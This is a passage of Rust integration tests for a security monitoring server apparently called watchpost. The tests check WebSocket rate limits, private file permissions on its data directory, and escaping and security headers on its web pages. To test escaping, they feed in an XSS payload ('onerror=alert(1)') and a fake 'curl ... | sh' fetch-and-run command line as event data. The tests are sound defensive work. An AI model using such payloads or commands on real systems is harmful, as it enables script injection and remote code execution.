        let mut head = [0u8; 12];
        stream.read_exact(&mut head).unwrap();
        assert_eq!(&head[9..12], b"101");
        open.push(stream);
    }
    assert_eq!(ws_handshake(&server.base, &[("X-API-Key", &admin)]), 429);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_data_directory_and_database_are_private_whatever_the_umask() {
    let dir = tempfile::tempdir().unwrap();
    let port = common::free_port();
    let mut child = std::process::Command::new("sh")
        .args([
            "-c",
            &format!("umask 000; exec {} serve --port {port}", common::BIN),
        ])
        .current_dir(dir.path())
        .env("WATCHPOST_MONITORING__PROCESS_EXECS", "false")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let data = dir.path().join("watchpost-data");
    let base = format!("http://127.0.0.1:{port}");
    eventually("the server is ready", || {
        let url = format!("{base}/readyz");
        async move {
            http()
                .get(url)
                .send()
                .await
                .is_ok_and(|r| r.status().is_success())
        }
    })
    .await;
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&data), 0o700);
    for file in [
        "watchpost.db",
        "watchpost.db-wal",
        "admin-api-key",
        "api-key-secret",
    ] {
        let path = data.join(file);
        if path.exists() {
            assert_eq!(mode(&path), 0o600, "{file}");
        }
    }
    assert!(data.join("watchpost.db").exists());
    let _ = child.kill();
    let _ = child.wait();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_text_is_escaped_on_every_page_and_every_answer_carries_security_headers() {
    let dir = tempfile::tempdir().unwrap();
    let hostile = "\"><img src=x onerror=alert(1)>";
    let file = config_file(
        dir.path(),
        &format!(
            "[detection.placeholders]\n'{hostile}' = ['{hostile}']\n\n[web]\ndecoys = ['/{hostile}']\n"
        ),
    );
    let server = Server::start_with(dir.path(), &["--config", file.to_str().unwrap()]);
    let client = http();
    client
        .post(server.url("/api/v1/events"))
        .json(
            &json!([{"@timestamp": "2026-12-07T10:00:00Z", "host": {"name": hostile},
            "source": {"ip": "203.0.113.5"}, "user": {"name": hostile}, "message": hostile,
            "event": {"category": ["process"], "action": "exec", "module": "agent"},
            "process": {"command_line": format!("curl http://x/{hostile} | sh")}}]),
        )
        .send()
        .await
        .unwrap();
    tokio::time::sleep(Duration::from_millis(500)).await;
    let alerts: Value = client
        .get(server.url("/api/v1/alerts"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let mut pages: Vec<String> = watchpost_server::auth::access::PAGES
        .iter()
        .filter(|(m, p, _)| *m == "GET" && !p.contains("/assets/"))
        .map(|(_, p, _)| p.to_string())
        .collect();
    let host_page = format!("/hosts/{}", urlencode(hostile));
    let alert_page = alerts["items"][0]["id"]
        .as_str()
        .map(|id| format!("/alerts/{id}"));
    pages.retain(|p| !p.contains('{'));
    pages.push(host_page);
    pages.extend(alert_page);
    pages.push(format!("/events?q={}", urlencode(hostile)));
    pages.push(format!("/login?next={}", urlencode(hostile)));
    for page in &pages {
        let response = client.get(server.url(page)).send().await.unwrap();
        let headers = response.headers().clone();
        let csp = headers["content-security-policy"].to_str().unwrap();
        assert!(
            csp.contains("script-src 'self'") && !csp.contains("script-src 'self' 'unsafe-inline'"),
            "{page}"
        );
        assert!(csp.contains("frame-ancestors 'none'"));
        assert_eq!(headers["x-frame-options"], "DENY");
        assert_eq!(headers["x-content-type-options"], "nosniff");
        assert!(headers.contains_key("referrer-policy"));
        let html = response.text().await.unwrap();
        assert!(
            !html.contains("<img src=x"),
            "{page} holds the markup unescaped"
        );
        assert!(
            !html.contains("<script>") && !html.contains("onerror=alert(1)>"),
            "{page}"
        );
    }
    for path in ["/api/v1/status", "/no-such-route", "/healthz"] {
        let response = client.get(server.url(path)).send().await.unwrap();
        assert!(
            response.headers().contains_key("content-security-policy"),
            "{path}"
        );
    }
}

fn urlencode(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}
